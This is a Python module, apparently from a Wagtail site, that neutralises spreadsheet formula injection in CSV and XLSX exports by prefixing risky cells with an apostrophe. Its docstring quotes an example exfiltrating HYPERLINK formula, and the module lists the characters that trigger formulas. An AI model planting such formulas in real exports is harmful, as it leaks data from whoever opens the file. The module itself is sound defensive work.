"""Spreadsheet cells that cannot run: formula injection in CSV and XLSX exports.

A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` (and, in
some programs, a tab or carriage return before one) as a formula, so a value
someone typed into a form or an import (`=HYPERLINK("https://…?leak="&A1)`)
would run when staff open the export. Every export writes text cells through
`neutralise`, which puts an apostrophe in front, as OWASP recommends; imports
of our own exports take it off again with `restore`.
"""

from functools import wraps

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """`value` with a leading apostrophe if a spreadsheet would run it."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def restore(value):
    """The value `neutralise` was given (for re-importing an export)."""
    if isinstance(value, str) and value[:1] == "'" and value[1:2] in FORMULA_STARTS:
        return value[1:]
    return value


def restore_row(row):
    return {key: restore(value) for key, value in row.items()}


def protect_wagtail_exports():
    """Neutralise every cell of the Wagtail admin's CSV and XLSX exports.

    Form submissions (the contact page's, written by anonymous visitors),
    reports (page titles, user names) and any snippet or model listing with
    `list_export` all write their cells through
    `SpreadsheetExportMixin.preprocess_field_value`; its result goes through
    `neutralise` here, once, for all of them.
    """
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "neutralises_formulas", False):
        return

    @wraps(original)
    def preprocess_field_value(self, field, value, export_format):
        return neutralise(original(self, field, value, export_format))

    preprocess_field_value.neutralises_formulas = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
